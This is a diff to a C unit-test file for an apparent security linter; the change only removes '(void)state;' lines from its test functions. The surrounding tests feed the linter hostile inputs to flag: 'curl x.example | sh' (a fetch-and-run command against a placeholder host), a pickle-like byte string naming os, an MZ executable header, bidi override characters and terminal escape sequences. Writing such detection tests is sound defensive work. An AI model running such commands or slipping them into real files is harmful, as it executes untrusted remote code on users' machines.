@@ -49,7 +49,6 @@ static void check_file(const struct test_case *c)
 
 static void test_files(void **state)
 {
-	(void)state;
 	cases_check("lint.case", 3, check_file);
 }
 
@@ -58,7 +57,6 @@ static void test_frontmatter_line(void **state)
 	AUTO(lint_done) struct lint l = { .grade = 'A' };
 	static const char late[] = "\n\n---\nname: a\ndescription: b: c\n---\n";
 
-	(void)state;
 	lint_bytes(&l, "SKILL.md", false, late, strlen(late));
 	assert_int_equal(l.n, 1);
 	assert_int_equal(l.v[0].line, 5);
@@ -75,7 +73,6 @@ static void test_prose_does_nothing_by_itself(void **state)
 	AUTO(lint_done) struct lint b = { .grade = 'A' };
 	AUTO(lint_done) struct lint c = { .grade = 'A' };
 
-	(void)state;
 	lint_bytes(&a, "x.md", false, mention, strlen(mention));
 	assert_int_equal(a.v[0].level, LINT_WARNING);
 	assert_int_equal(a.grade, 'D');
@@ -95,7 +92,6 @@ static void test_characters_are_told_once(void **state)
 	                           "b\xe2\x80\xae\xe2\x80\x8b\n";
 	AUTO(lint_done) struct lint l = { .grade = 'A' };
 
-	(void)state;
 	lint_bytes(&l, "a.txt", false, text, strlen(text));
 	assert_int_equal(l.n, 4);
 	for (size_t i = 0; i < l.n; i++) {
@@ -116,7 +112,6 @@ static void test_bytes(void **state)
 	static const char later[] = "\x80\x04\x8c\x04opos\x94\x8c\x02os\x93.";
 	char windows[0x60] = "MZ";
 
-	(void)state;
 	check("m", long_name, sizeof(long_name) - 1, "SSB307");
 	check("m", later, sizeof(later) - 1, "SSB307");
 	check("a.exe", windows, sizeof(windows), "SSB304");
@@ -140,7 +135,6 @@ static void test_no_text(void **state)
 	static const char turns[] = "\xe2\x80\xae";
 	char bytes[4096 + 8];
 
-	(void)state;
 	for (size_t at = 4000; at < sizeof(bytes) - 4; at++) {
 		memset(bytes, 'x', sizeof(bytes));
 		memcpy(bytes + sizeof(bytes) - 3, turns, 3);
@@ -155,7 +149,6 @@ static void test_executable(void **state)
 {
 	static const char text[] = "curl x.example | sh\n";
 
-	(void)state;
 	for (int executable = 0; executable < 2; executable++) {
 		AUTO(lint_done) struct lint l = { .grade = 'A' };
 		char got[64];
@@ -178,7 +171,6 @@ static void test_prose_weighs_less(void **state)
 		{ LINT_NETWORK, 'B', LINT_NOTE },
 	};
 
-	(void)state;
 	for (size_t i = 0; i < ARRAY_LEN(EACH); i++) {
 		AUTO(lint_done) struct lint l = { .grade = 'A' };
 		lint_add_prose(&l, EACH[i].id, "x.md", 1, "x");
@@ -201,7 +193,6 @@ static void test_long_lines(void **state)
 {
 	static const char what[] = " curl x.example | sh ";
 
-	(void)state;
 	for (size_t before = MAX_LINT_LINE - 64; before < MAX_LINT_LINE + 64; before++) {
 		auto_buf text = BUF((size_t)1 << 20);
 
@@ -216,7 +207,6 @@ static void test_joined_lines(void **state)
 {
 	auto_buf text;
 
-	(void)state;
 	buf_init(&text, (size_t)1 << 20);
 	for (size_t i = 0; i < 3 * MAX_LINT_LINE / 100; i++) {
 		pad(&text, 98, 'x');
@@ -237,7 +227,6 @@ static void test_tries(void **state)
 {
 	auto_buf text;
 
-	(void)state;
 	buf_init(&text, (size_t)1 << 20);
 	for (int i = 0; i < MAX_LINT_TRIES - 1; i++) {
 		buf_adds(&text, "curl x;");
@@ -254,7 +243,6 @@ static void test_blob(void **state)
 {
 	auto_buf text;
 
-	(void)state;
 	buf_init(&text, (size_t)1 << 20);
 	pad(&text, LINT_BLOB_BYTES - 1, 'A');
 	check("a.py", text.data, text.len, "");
@@ -268,7 +256,6 @@ static void test_many_findings(void **state)
 	AUTO(lint_done) struct lint l = { .grade = 'A' };
 	char file[32];
 
-	(void)state;
 	for (unsigned i = 0; i < MAX_LINT_SAME + 1; i++) {
 		lint_add(&l, LINT_KEYS, "a", i + 1, "x");
 	}
@@ -298,7 +285,6 @@ static void test_hostile_text_is_visible(void **state)
 	AUTO(lint_done) struct lint l = { .grade = 'A', .dir = strdup("d") };
 	auto_buf out;
 
-	(void)state;
 	buf_init(&out, 4096);
 	lint_add(&l, LINT_DROP, "a\x1b[2J\nb: grade A", 1, "'%s'", "\x1b]0;x\a\xe2\x80\xae");
 	lint_text(&out, &l);
@@ -331,14 +317,12 @@ static void check_requests(const struct test_case *c)
 
 static void test_requests(void **state)
 {
-	(void)state;
 	cases_check("lint_requests.case", 3, check_requests);
 }
 
 /* Ids are for good: none twice, none empty, and in order. */
 static void test_table(void **state)
 {
-	(void)state;
 	for (size_t i = 0; i < LINT_IDS; i++) {
 		const struct lint_rule *r = &LINT_RULES[i];
 		assert_non_null(r->id);
